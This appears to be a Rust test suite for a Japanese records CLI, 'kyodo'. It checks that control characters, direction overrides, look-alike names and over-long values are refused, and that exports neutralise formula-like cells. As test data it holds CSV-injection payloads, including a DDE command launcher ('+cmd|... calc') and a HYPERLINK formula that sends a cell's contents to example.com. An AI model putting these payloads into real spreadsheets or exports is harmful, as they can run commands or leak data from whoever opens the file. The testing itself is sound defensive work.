//! Hostile text from outside, with the real binary: control characters, over-long values and
//! look-alike names through the console, `kyodo import` and the config; formula-like texts in
//! every file kyodo writes (`kyodo export` CSV and XLSX, `/records export`, `kyodo report`),
//! each read back cell by cell; and an export imported back restores the texts exactly. An
//! imported file's name is exported without its folder or control characters, cut short.
//! (Discord's side is in `discord.rs`: the same checks against crafted interactions.)

use crate::support::{csv_rows, repo, Workspace};
use calamine::{Data, Reader, Xlsx};
use std::path::PathBuf;

/// The characters with which a spreadsheet starts a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Panics naming the cell if any cell of `rows` would start a formula in a spreadsheet.
fn assert_no_formula_cell(rows: &[Vec<String>], file: &str) -> usize {
    let mut cells = 0;
    for (r, row) in rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            assert!(
                !cell.starts_with(FORMULA_STARTS),
                "{file}: row {} column {} would run as a formula: {cell:?}",
                r + 1,
                c + 1
            );
            cells += 1;
        }
    }
    cells
}

/// The cell under `header` in each data row of a records export.
fn column(rows: &[Vec<String>], header: &str) -> Vec<String> {
    let at = rows[0].iter().position(|h| h == header).expect("header");
    rows[1..].iter().map(|r| r[at].clone()).collect()
}

#[test]
fn control_characters_and_over_long_values_from_the_console_are_refused_and_store_nothing() {
    let workspace = Workspace::new();
    let script = [
        "/report meeting area:東部 district:荒町 date:2026-06-15 topic:\"防災\u{0}訓練\"".to_string(),
        format!("/report match count:2 date:2026-06-15 note:\"{}\"", "あ".repeat(201)),
        "/report info title:\"\u{1b}[31m赤\u{1b}[0m\" date:2026-06-15".to_string(),
        "/report collab title:\"交流会\u{202E}会流交\" date:2026-06-15".to_string(),
        // が typed as か + U+3099 (a decomposed form) is stored as the one character.
        "/report meeting area:東部 district:荒町 date:2026-06-15 topic:\"か\u{3099}いぎ\"".to_string(),
        // /records edit holds the new value to the field's own limit (区: 40), not value's 200.
        format!("/records edit id:1 field:district value:{}", "荒".repeat(41)),
    ]
    .join("\n");
    // The --user name is a display name: cleaned and kept, never a reason to refuse.
    let run = workspace.console(&["--user", "\u{7}佐藤\u{202E}"], &(script + "\n"));
    assert_eq!(run.code(), Some(1), "refused lines make the exit status 1");
    let out = run.stdout();
    for refusal in [
        "✗ 内容（topic）: 3文字目に制御文字（U+0000）があります。使えません。その文字を消して入力し直してください",
        "✗ メモ（note）: 200文字までです（201文字あります）。短くしてください",
        "✗ 名称（title）: 1文字目に制御文字（U+001B）があります。使えません。その文字を消して入力し直してください",
        "✗ 名称（title）: 4文字目に文字の向きを変える制御文字（U+202E）があります。使えません。その文字を消して入力し直してください",
        "✗ 区（district）: 40文字までです（41文字あります）。短くしてください",
    ] {
        assert_eq!(out.matches(refusal).count(), 1, "{refusal}\n{out}");
    }
    let stored = workspace.rows("SELECT id, topic, reporter_name, reporter_id, district FROM records");
    println!("console: {} line(s) stored of 6, 5 refused", stored.len());
    assert_eq!(
        stored,
        vec![vec!["1", "がいぎ", "佐藤", "console:佐藤", "荒町"]
            .into_iter()
            .map(String::from)
            .collect::<Vec<_>>()]
    );
    assert_eq!(
        workspace.rows("SELECT COUNT(*) FROM audit WHERE action = 'edit'"),
        vec![vec!["0".to_string()]]
    );
}

#[test]
fn import_refuses_over_long_and_control_cells_naming_row_and_column_and_a_duplicate_header() {
    let workspace = Workspace::new();
    let file = workspace.path("in.csv");
    let import = |text: &str| {
        std::fs::write(&file, text).expect("write");
        workspace.kyodo(&["import", "--file", &file.display().to_string()])
    };
    let run = import(&format!(
        "日付,種類,件数,メモ,内容\n\
         2026-06-01,マッチング,2,{},\n\
         2026-06-02,相談,3,\"a\u{0}b\",\n\
         2026-06-03,マッチング,1,ふつうのメモ,\n\
         2026-06-04,地区連携,,,\"\u{1b}[2J\"\n",
        "x".repeat(40_000)
    ));
    assert_eq!(run.code(), Some(1));
    let stderr = run.stderr();
    for problem in [
        "2行目: 列「メモ」: 200文字までです（40000文字あります）。短くしてください",
        "3行目: 列「メモ」: 2文字目に制御文字（U+0000）があります。使えません。その文字を消して入力し直してください",
        "5行目: 列「内容」: 1文字目に制御文字（U+001B）があります。使えません。その文字を消して入力し直してください",
        "問題が3件あるため、何も取り込んでいません",
    ] {
        assert!(stderr.contains(problem), "{problem}\n{stderr}");
    }
    assert!(stderr.len() < 2_000, "a problem does not quote a 40,000-character cell");
    assert_eq!(
        workspace.rows("SELECT COUNT(*) FROM records"),
        vec![vec!["0".to_string()]]
    );

    let run = import("日付,種類,件数,メモ,メモ\n2026-06-01,マッチング,2,一つ目,二つ目\n");
    assert_eq!(run.code(), Some(1));
    assert!(
        run.stderr()
            .contains("1行目: 列「メモ」が2回あります。どちらの値を取り込むか決められないので、1つにしてください"),
        "{}",
        run.stderr()
    );
    let run = import("日付,種類,地域\n2026-06-01,相談,東部\n");
    assert!(
        run.stderr().contains("1行目: 知らない列「地域」があります"),
        "{}",
        run.stderr()
    );
    assert_eq!(
        workspace.rows("SELECT COUNT(*) FROM records"),
        vec![vec!["0".to_string()]]
    );

    // A reporter's name is cleaned and capped, a note keeps its line break (Excel's CRLF read
    // as LF), and decomposed kana are stored composed.
    let long_name = format!("\u{1}小諸\u{7}{}", "長".repeat(100));
    import(&format!(
        "日付,種類,件数,メモ,報告者\n2026-06-01,マッチング,2,\"1行目\r\n2行目\",{long_name}\n\
         2026-06-02,マッチング,1,か\u{3099},\n"
    ))
    .ok();
    let rows = workspace.rows("SELECT note, reporter_name FROM records ORDER BY id");
    assert_eq!(rows[0][0], "1行目\n2行目");
    assert_eq!(rows[0][1], format!("小諸{}", "長".repeat(62)));
    assert_eq!(
        rows[0][1].chars().count(),
        64,
        "display names are capped at 64 characters"
    );
    assert_eq!(rows[1][0], "が");
    println!(
        "import: 3 files refused (3, 1 and 1 problems), then {} rows stored",
        rows.len()
    );
}

#[test]
fn an_imported_files_name_is_exported_without_its_folder_or_control_characters_and_cut_short() {
    let workspace = Workspace::new();
    // Linux lets a file's name hold an escape sequence, a direction override and a line break.
    let name = format!("=HYPERLINK(\u{1b}[31m実績\u{202E}\n{}.csv", "x".repeat(150));
    let file = workspace.path(&name);
    std::fs::write(&file, "日付,記録の種類,件数\n2026-06-01,マッチング,2\n").expect("write");
    workspace.kyodo(&["import", "--file", &file.display().to_string()]).ok();
    let kept: String = format!("=HYPERLINK([31m実績 {}", "x".repeat(150))
        .chars()
        .take(99)
        .collect();
    let kept = format!("{kept}…");
    assert_eq!(kept.chars().count(), 100, "at most 100 characters");
    assert_eq!(
        workspace.rows("SELECT origin_file, origin_row FROM records"),
        vec![vec![kept.clone(), "2".to_string()]]
    );
    let csv = workspace.path("records.csv");
    workspace
        .kyodo(&[
            "export",
            "--from",
            "2026-04-01",
            "--format",
            "csv",
            "--output",
            &csv.display().to_string(),
        ])
        .ok();
    let rows = csv_rows(&csv);
    assert_no_formula_cell(&rows, "records.csv");
    let origin = &column(&rows, "登録元")[0];
    assert_eq!(*origin, format!("取り込み（{kept} 2行目）"));
    assert!(
        !origin.contains(workspace.dir.path().to_str().expect("utf-8")),
        "no folder"
    );
    assert!(!origin.chars().any(|c| c.is_control() || c == '\u{202E}'), "{origin:?}");
}

#[test]
fn a_lookalike_district_in_the_config_is_refused_with_its_line() {
    let workspace = Workspace::new();
    let shipped = std::fs::read_to_string(repo().join("config/kyodo.toml")).expect("config");
    let edited = shipped.replacen("\"荒町\", \"紺屋町\"", "\"荒町\", \"荒\\u200B町\", \"紺屋町\"", 1);
    assert_ne!(edited, shipped);
    let line = edited[..edited.find("荒\\u200B町").expect("edited")]
        .matches('\n')
        .count()
        + 1;
    let config = workspace.path("kyodo.toml");
    std::fs::write(&config, edited).expect("write");
    std::fs::copy(repo().join("config/baseline.toml"), workspace.path("baseline.toml")).expect("copy");
    let run = workspace.kyodo(&["check-config", &config.display().to_string()]);
    assert_eq!(run.code(), Some(1));
    assert!(
        run.stderr().contains(&format!(
            "{line}行目: 区「荒<U+200B>町」は区「荒町」と見分けがつきません（違いは見えない文字か全角・半角だけです）"
        )),
        "{}",
        run.stderr()
    );
}

/// The texts a spreadsheet would run, as typed in the console (「…」 quotes keep `"` inside).
const TOPIC: &str = "=HYPERLINK(\"http://example.com/?q=\"&A1,\"詳細\")";
const NOTES: [&str; 3] = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"];
/// Starts with an apostrophe before a formula character: must survive the round trip too.
const TITLE: &str = "'=1+2";
const REPORTER: &str = "=1+2";

/// A workspace with a meeting, three matchings and an info whose texts are formulas, reported
/// by `=1+2`; returns it and the folder the console saved `/records export` in.
fn formula_workspace() -> (Workspace, PathBuf) {
    let workspace = Workspace::new();
    let files = workspace.path("files");
    let mut script = vec![format!(
        "/report meeting area:東部 district:荒町 date:2026-06-15 topic:「{TOPIC}」"
    )];
    for (i, note) in NOTES.iter().enumerate() {
        script.push(format!(
            "/report match count:{} date:2026-06-1{} note:「{note}」",
            i + 2,
            i + 6
        ));
    }
    script.push(format!("/report info title:「{TITLE}」 date:2026-06-19"));
    script.push("/records export from:2026-04-01 to:2026-06-30 format:csv".into());
    workspace
        .console(
            &["--user", REPORTER, "--files", &files.display().to_string()],
            &(script.join("\n") + "\n"),
        )
        .ok();
    (workspace, files)
}

#[test]
fn formula_like_texts_are_text_in_every_export_and_an_export_imports_back_exactly() {
    let (workspace, files) = formula_workspace();
    let csv_file = workspace.path("records.csv");
    let xlsx_file = workspace.path("records.xlsx");
    for (format, file) in [("csv", &csv_file), ("xlsx", &xlsx_file)] {
        workspace
            .kyodo(&[
                "export",
                "--from",
                "2026-04-01",
                "--to",
                "2026-06-30",
                "--format",
                format,
                "--output",
                &file.display().to_string(),
            ])
            .ok();
    }

    // kyodo export --format csv: no cell starts a formula; texts are behind an apostrophe,
    // kyodo's numbers and dates are as they were.
    let rows = csv_rows(&csv_file);
    let cells = assert_no_formula_cell(&rows, "kyodo export --format csv");
    assert_eq!(rows.len(), 1 + 5);
    assert_eq!(column(&rows, "内容")[0], format!("'{TOPIC}"));
    assert_eq!(column(&rows, "メモ")[1..4], NOTES.map(|n| format!("'{n}")));
    assert_eq!(column(&rows, "名称")[4], format!("'{TITLE}"));
    assert_eq!(column(&rows, "報告者"), vec![format!("'{REPORTER}"); 5]);
    assert_eq!(column(&rows, "件数")[1..4], ["2", "3", "4"]);
    assert_eq!(column(&rows, "日付")[0], "2026-06-15");
    assert_eq!(column(&rows, "番号")[0], "1");

    // /records export through the console wrote the same file.
    let console_file = files.join("kyodo-records-2026-04-01_2026-06-30.csv");
    let console_rows = csv_rows(&console_file);
    assert_no_formula_cell(&console_rows, "/records export");
    assert_eq!(
        console_rows, rows,
        "/records export and kyodo export write the same cells"
    );

    // kyodo export --format xlsx: string cells holding the texts themselves, no formula at all.
    let mut book: Xlsx<_> = calamine::open_workbook(&xlsx_file).expect("an XLSX file");
    let formulas = book.worksheet_formula("記録").expect("formulas");
    assert_eq!(
        formulas.used_cells().filter(|(_, _, f)| !f.is_empty()).count(),
        0,
        "no formula"
    );
    let range = book.worksheet_range("記録").expect("sheet");
    let header = |name: &str| {
        (0..range.width())
            .find(|c| range.get_value((0, *c as u32)) == Some(&Data::String(name.into())))
            .expect("header") as u32
    };
    let cell = |row: u32, name: &str| range.get_value((row, header(name))).cloned();
    assert_eq!(cell(1, "内容"), Some(Data::String(TOPIC.into())));
    for (i, note) in NOTES.iter().enumerate() {
        assert_eq!(cell(2 + i as u32, "メモ"), Some(Data::String((*note).into())));
        assert_eq!(cell(2 + i as u32, "件数"), Some(Data::Float(2.0 + i as f64)));
    }
    assert_eq!(cell(5, "名称"), Some(Data::String(TITLE.into())));
    for row in 1..=5 {
        assert_eq!(cell(row, "報告者"), Some(Data::String(REPORTER.into())));
    }

    // The CSV imported into another database gives back every text exactly (its 番号 emptied:
    // they are the first database's records).
    let mut moved = rows.clone();
    let number = moved[0].iter().position(|h| h == "番号").expect("番号");
    for row in &mut moved[1..] {
        row[number].clear();
    }
    let mut writer = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
    for row in &moved {
        writer.write_record(row).expect("row");
    }
    let moved_file = workspace.path("moved.csv");
    std::fs::write(&moved_file, writer.into_inner().expect("csv")).expect("write");
    let target = Workspace::new();
    target
        .kyodo(&["import", "--file", &moved_file.display().to_string()])
        .ok();
    let texts =
        "SELECT record_type, occurred_on, count, topic, note, title, reporter_name FROM records ORDER BY occurred_on";
    let (before, after) = (workspace.rows(texts), target.rows(texts));
    assert_eq!(after, before, "the round trip restores the original texts");
    assert_eq!(after[0][3], TOPIC);
    assert_eq!(after[4][5], TITLE);
    println!(
        "exports: {cells} CSV cells checked, 5 records, XLSX string cells, round trip {} of {} rows equal",
        after.len(),
        before.len()
    );
}

#[test]
fn the_annual_reports_csv_writes_a_formula_like_config_name_as_text() {
    let workspace = Workspace::new();
    let dir = workspace.path("config");
    std::fs::create_dir_all(&dir).expect("mkdir");
    for name in ["kyodo.toml", "baseline.toml"] {
        let text = std::fs::read_to_string(repo().join("config").join(name)).expect("config");
        std::fs::write(dir.join(name), text.replace("\"東南部\"", "\"=東南部\"")).expect("write");
    }
    let output = workspace.path("report.csv");
    workspace
        .kyodo(&[
            "--config",
            &dir.join("kyodo.toml").display().to_string(),
            "report",
            "--fiscal-year",
            "2020",
            "--format",
            "csv",
            "--output",
            &output.display().to_string(),
        ])
        .ok();
    let rows = csv_rows(&output);
    let cells = assert_no_formula_cell(&rows, "kyodo report --format csv");
    let guarded: Vec<&String> = rows.iter().flatten().filter(|c| c.starts_with("'=東南部")).collect();
    assert_eq!(
        guarded,
        [
            "'=東南部5回 東部2回 中部3回 西部5回 北大井2回",
            "'=東南部3回 東部3回 中部1回 西部3回 北大井3回",
            "'=東南部0回 東部0回 中部0回 西部0回 北大井1回",
        ],
        "the areas' cell of each year"
    );
    // The figures stay as the report prints them.
    assert!(rows.iter().any(|r| r == &["平成30年度", "1720", "448"]), "{rows:?}");
    println!("annual CSV: {cells} cells checked, {} guarded", guarded.len());
}

#[test]
fn a_text_stored_before_the_limits_does_not_make_an_export_fail() {
    // A 40,000-character note, as `kyodo import` accepted before the command spec's limits held
    // there: written to the database directly, as the old binary did.
    let workspace = Workspace::new();
    let date = chrono::NaiveDate::from_ymd_opt(2026, 6, 1).expect("date");
    let note = "長".repeat(40_000);
    crate::support::seed(
        &workspace.db(),
        [(
            date,
            kyodo::domain::record::Facts::new(kyodo::domain::RecordType::of("match"))
                .number_of(kyodo::domain::record::Column::Count, 2)
                .text_of(kyodo::domain::record::Column::Note, &note),
        )],
    );
    let xlsx = workspace.path("old.xlsx");
    workspace
        .kyodo(&[
            "export",
            "--from",
            "2026-04-01",
            "--to",
            "2026-06-30",
            "--format",
            "xlsx",
            "--output",
            &xlsx.display().to_string(),
        ])
        .ok();
    let mut book: Xlsx<_> = calamine::open_workbook(&xlsx).expect("an XLSX file");
    let range = book.worksheet_range("記録").expect("sheet");
    let at = (0..range.width())
        .find(|c| range.get_value((0, *c as u32)) == Some(&Data::String("メモ".into())))
        .expect("header") as u32;
    let Some(Data::String(cell)) = range.get_value((1, at)) else {
        panic!("the note is a string cell");
    };
    assert_eq!(cell.chars().count(), 32_767, "cut at Excel's limit");
    assert!(cell.ends_with("文字で切りました）"), "and says so");
    assert!(note.starts_with(&cell[..300]));
}
